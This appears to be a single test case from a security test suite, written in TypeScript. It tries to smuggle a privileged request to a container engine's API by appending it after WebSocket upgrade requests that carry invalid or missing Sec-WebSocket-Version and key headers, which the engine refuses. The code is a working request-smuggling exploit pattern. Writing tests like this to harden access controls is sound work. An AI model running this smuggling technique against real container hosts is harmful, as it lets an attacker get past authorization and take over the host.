import { type Attempt, each, privileged, request, v } from './book';

export const attempt: Attempt = {
  title: 'hide a request to the engine behind a web socket that it refuses',
  source: 'what follows the head of an upgrade goes to the engine unread; where the engine refuses it, it reads a request',
  async try(world) {
    const hidden = privileged(world);
    return each([['Sec-WebSocket-Version: 99', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='], ['Sec-WebSocket-Version: 13'], [],
      ['Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: x']], (list) =>
      world.send(Buffer.concat([request(`GET ${v}/containers/${world.own.container.id}/attach/ws?stream=1&detachKeys=not-a-key HTTP/1.1`,
        [`Host: ${world.address}`, 'Connection: Upgrade', 'Upgrade: websocket', ...list]), hidden])));
  },
};
